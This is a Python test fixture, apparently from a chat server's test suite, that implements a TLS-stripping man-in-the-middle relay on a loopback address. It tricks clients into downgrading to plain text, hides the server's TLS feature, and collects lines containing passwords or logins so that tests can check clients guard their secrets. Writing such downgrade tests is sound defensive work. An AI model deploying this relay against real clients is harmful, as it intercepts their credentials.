"""A TLS-stripping man in the middle on 127.0.0.2, as a hostile probe built it (tests only; its own threads).

    relay = StripRelay(server.address)           clients connect to relay.address (127.0.0.2)
    relay = StripRelay(..., hide_tls=True)       ... and the server's `welcome` reaches them without `tls`
    relay.sent                                   every line the clients sent through it, in order

A client's TLS opening (first byte 0x16) is answered with a line of plain
JSON and closed, so a naive client "learns" the server has no TLS and
connects again in plain.  A plain connection is relayed to the real server
over TLS from 127.0.0.2, so the server sees an encrypted connection from
the network and its own `tls_required` rule never fires: only the client
can keep its secrets.  One thread per connection, with select: an SSLSocket
is never used by two threads at once.
"""

from __future__ import annotations

import json
import select
import socket
import ssl
import threading

FAKE_WELCOME = b'{"type":"welcome","content":"hi","timestamp":"00:00:00"}\n'


class StripRelay:
    def __init__(self, target: tuple[str, int], hide_tls: bool = False) -> None:
        self.target = target
        self.hide_tls = hide_tls
        self.listener = socket.create_server(("127.0.0.2", 0))
        self.address: tuple[str, int] = self.listener.getsockname()[:2]
        self.sent: list[str] = []  # what clients sent, line by line
        self.tls_openings = 0  # TLS openings answered in plain
        self.relayed = 0  # plain connections relayed over TLS
        self._lock = threading.Lock()
        self._sockets: list[socket.socket] = []
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        threading.Thread(target=self._accept, name="strip-accept", daemon=True).start()

    def secrets_seen(self) -> list[str]:
        with self._lock:
            return [line for line in self.sent if any(word in line.upper() for word in ("PASS", "LOGIN", "REGISTER"))]

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            with self._lock:
                self._sockets.append(client)
            threading.Thread(target=self._handle, args=(client,), name="strip-conn", daemon=True).start()

    def _handle(self, client: socket.socket) -> None:
        try:
            client.settimeout(10)
            first = client.recv(1, socket.MSG_PEEK)
            if first == b"\x16":
                with self._lock:
                    self.tls_openings += 1
                client.sendall(FAKE_WELCOME)
                client.close()
                return
            plain = socket.socket()
            plain.bind(("127.0.0.2", 0))
            plain.connect(self.target)
            upstream = self._context.wrap_socket(plain)
            with self._lock:
                self._sockets.append(upstream)
                self.relayed += 1
            client.settimeout(None)
            self._pump(client, upstream)
        except OSError:
            pass
        finally:
            client.close()

    def _pump(self, client: socket.socket, upstream: ssl.SSLSocket) -> None:
        from_client = b""
        from_server = b""
        while True:
            readable = [upstream] if upstream.pending() else select.select([client, upstream], [], [], 1.0)[0]
            for source in readable:
                data = source.recv(65536)
                if not data:
                    upstream.close()
                    return
                if source is client:
                    from_client += data
                    *lines, from_client = from_client.split(b"\n")
                    with self._lock:
                        self.sent.extend(line.decode("utf-8", "replace") for line in lines)
                    upstream.sendall(data)
                else:
                    from_server += data
                    *lines, from_server = from_server.split(b"\n")
                    if lines:
                        client.sendall(b"".join(self._rewrite(line) + b"\n" for line in lines))

    def _rewrite(self, line: bytes) -> bytes:
        """The server's line, with `tls` taken out of the welcome's features when the relay hides it."""
        if not self.hide_tls or b'"welcome"' not in line:
            return line
        frame = json.loads(line)
        frame["features"] = [feature for feature in frame.get("features", []) if feature != "tls"]
        return json.dumps(frame).encode()

    def close(self) -> None:
        self.listener.close()
        with self._lock:
            sockets, self._sockets = self._sockets, []
        for sock in sockets:
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()
